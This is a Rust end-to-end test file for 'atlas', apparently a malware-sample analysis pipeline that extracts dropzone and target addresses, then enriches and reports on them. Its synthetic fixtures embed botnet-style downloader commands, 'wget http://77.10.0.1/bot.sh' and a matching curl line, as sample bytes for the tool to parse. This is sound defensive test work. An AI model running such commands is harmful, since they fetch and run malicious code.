//! End-to-end tests driving the `atlas` binary.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;

fn atlas(args: &[&str]) -> Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_atlas"))
        .args(args)
        .output()
        .expect("spawn atlas")
}

fn run_ok(args: &[&str]) {
    let out = atlas(args);
    assert!(
        out.status.success(),
        "atlas {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn demo_config() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/demo/config.toml")
}

const ALL_STAGES: [&str; 7] = [
    "extract", "enrich", "affinity", "geo", "exposure", "netscope", "report",
];

fn run_pipeline(config: &Path, out: &Path) {
    for stage in ALL_STAGES {
        run_ok(&[
            stage,
            "--config",
            config.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ]);
    }
}

fn read_json(path: &Path) -> serde_json::Value {
    serde_json::from_str(&fs::read_to_string(path).unwrap()).unwrap()
}

/// Small synthetic corpus with its own fixtures and config, written into
/// `dir`; returns the config path.
fn write_corpus(dir: &Path) -> PathBuf {
    let samples = dir.join("samples");
    fs::create_dir_all(&samples).unwrap();
    let gap = [0u8; 40];
    let mut a = b"wget http://77.10.0.1/bot.sh".to_vec();
    a.extend_from_slice(&gap);
    a.extend_from_slice(b"88.1.1.1 88.1.1.2 88.1.1.3");
    fs::write(samples.join("a.bin"), &a).unwrap();
    let mut b = b"curl http://77.10.0.2:8080/x".to_vec();
    b.extend_from_slice(&gap);
    b.extend_from_slice(b"88.1.1.1 88.1.1.2 88.1.1.9 41.x.x.x");
    fs::write(samples.join("b.bin"), &b).unwrap();
    fs::write(samples.join("c.bin"), b"\x00\x01nothing v1.2.3.4.5\x00").unwrap();

    fs::write(
        dir.join("geo.csv"),
        "address,country,city,asn,lat,lon\n\
         77.10.0.1,US,Chicago,100,41.85,-87.65\n\
         77.10.0.2,NL,Amsterdam,200,52.37,4.90\n\
         88.1.1.1,VN,Hanoi,300,21.02,105.84\n\
         88.1.1.2,VN,,300,16.07,108.22\n\
         88.1.1.3,BR,Sao Paulo,400,-23.55,-46.63\n\
         88.1.1.9,CN,Beijing,500,39.90,116.40\n",
    )
    .unwrap();
    fs::write(
        dir.join("scan.jsonl"),
        r#"{"address":"77.10.0.1","ports":[22,80,123],"cves":[{"id":"CVE-2014-1692","severity":"high"}],"device_type":"server"}
{"address":"88.1.1.1","ports":[23,80],"cves":[],"device_type":"camera"}
{"address":"88.1.1.2","ports":[23],"cves":[],"device_type":"camera"}
{"address":"41.9.9.9","ports":[80],"cves":[],"device_type":"hvac"}
"#,
    )
    .unwrap();

    let config = dir.join("config.toml");
    fs::write(
        &config,
        "input_dir = \"samples\"\n\
         offline = true\n\
         geo_fixture = \"geo.csv\"\n\
         scan_fixture = \"scan.jsonl\"\n\
         min_degree = 1\n\
         min_support = 1\n",
    )
    .unwrap();
    config
}

fn artifact_digests(out: &Path) -> Vec<(String, String)> {
    use sha2::{Digest, Sha256};
    let mut digests = Vec::new();
    let mut stack = vec![out.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in fs::read_dir(&dir).unwrap() {
            let entry = entry.unwrap();
            let path = entry.path();
            if path.is_dir() {
                if path.file_name().is_some_and(|n| n == "cache") {
                    continue; // volatile state, not an artifact
                }
                stack.push(path);
            } else {
                let rel = path.strip_prefix(out).unwrap().display().to_string();
                let mut hasher = Sha256::new();
                hasher.update(fs::read(&path).unwrap());
                digests.push((rel, hex::encode(hasher.finalize())));
            }
        }
    }
    digests.sort();
    digests
}

#[test]
fn full_pipeline_on_demo_fixtures() {
    let out = tempfile::tempdir().unwrap();
    run_pipeline(&demo_config(), out.path());

    let summary = read_json(&out.path().join("extract_summary.json"));
    assert_eq!(summary["total_samples"], 4);
    assert_eq!(summary["unique_dropzones"], 2);
    assert_eq!(summary["unique_targets"], 7);
    assert_eq!(summary["masked_raw"].as_array().unwrap().len(), 3);

    let manifest = read_json(&out.path().join("report/manifest.json"));
    assert_eq!(manifest["sections"].as_array().unwrap().len(), 6);
    assert!(manifest["omissions"].as_array().unwrap().is_empty());
    assert!(manifest["files"].as_object().unwrap().len() >= 6);

    for name in [
        "hits.jsonl",
        "enriched.jsonl",
        "edges.jsonl",
        "flow_map.geojson",
        "countries_dropzones.csv",
        "closure_recommendations.csv",
        "scope_breakdown.csv",
    ] {
        assert!(out.path().join(name).exists(), "{name} missing");
    }
}

#[test]
fn affinity_before_extract_is_dependency_error() {
    let out = tempfile::tempdir().unwrap();
    let result = atlas(&["affinity", "--out", out.path().to_str().unwrap()]);
    assert_eq!(result.status.code(), Some(3));
    let doc = read_json(&out.path().join("error.json"));
    assert_eq!(doc["stage"], "affinity");
    assert_eq!(doc["kind"], "dependency");
    assert_eq!(doc["exit_code"], 3);
}

#[test]
fn unknown_config_key_is_config_error() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("bad.toml");
    fs::write(&config, "no_such_knob = true\n").unwrap();
    let out = dir.path().join("out");
    let result = atlas(&[
        "extract",
        "--config",
        config.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert_eq!(result.status.code(), Some(2));
    let doc = read_json(&out.join("error.json"));
    assert_eq!(doc["kind"], "config");
}

#[test]
fn missing_input_dir_is_config_error() {
    let dir = tempfile::tempdir().unwrap();
    let result = atlas(&["extract", "--out", dir.path().to_str().unwrap()]);
    assert_eq!(result.status.code(), Some(2));
}

#[test]
fn rerunning_stages_is_byte_identical() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_corpus(dir.path());
    let out = dir.path().join("out");
    run_pipeline(&config, &out);
    let first = artifact_digests(&out);
    run_pipeline(&config, &out);
    let second = artifact_digests(&out);
    assert_eq!(first, second);
}

#[test]
fn report_lists_omitted_stages() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_corpus(dir.path());
    let out = dir.path().join("out");
    for stage in ["extract", "enrich", "affinity", "report"] {
        run_ok(&[
            stage,
            "--config",
            config.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ]);
    }
    let manifest = read_json(&out.join("report/manifest.json"));
    let omissions: Vec<&str> = manifest["omissions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(omissions, vec!["geo", "exposure", "netscope"]);
    assert!(!out.join("report/flow_map.geojson").exists());
}

#[test]
fn metric_override_flows_into_summary() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_corpus(dir.path());
    let out = dir.path().join("out");
    run_ok(&[
        "extract",
        "--config",
        config.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    run_ok(&[
        "affinity",
        "--config",
        config.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
        "--metric",
        "containment",
        "--pair-table",
    ]);
    let summary = read_json(&out.join("affinity_summary.json"));
    assert_eq!(summary["overlap"]["metric"], "containment");
    assert!(out.join("overlap_pairs.csv").exists());
}

#[test]
fn offline_without_fixtures_reports_not_found() {
    let dir = tempfile::tempdir().unwrap();
    write_corpus(dir.path());
    // Config without fixture providers at all.
    let config = dir.path().join("nofix.toml");
    fs::write(&config, "input_dir = \"samples\"\noffline = true\n").unwrap();
    let out = dir.path().join("out");
    for stage in ["extract", "enrich"] {
        run_ok(&[
            stage,
            "--config",
            config.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ]);
    }
    let summary = read_json(&out.join("enrich_summary.json"));
    assert_eq!(summary["geo"]["resolved"], 0);
    assert_eq!(summary["scan"]["resolved"], 0);
    assert!(out.join("enriched.jsonl").exists());
}

#[test]
fn stage_lock_blocks_concurrent_runs() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_corpus(dir.path());
    let out = dir.path().join("out");
    fs::create_dir_all(&out).unwrap();
    fs::write(out.join(".atlas.lock"), "held\n").unwrap();
    let result = atlas(&[
        "extract",
        "--config",
        config.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert_eq!(result.status.code(), Some(3));
    fs::remove_file(out.join(".atlas.lock")).unwrap();
    run_ok(&[
        "extract",
        "--config",
        config.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
}
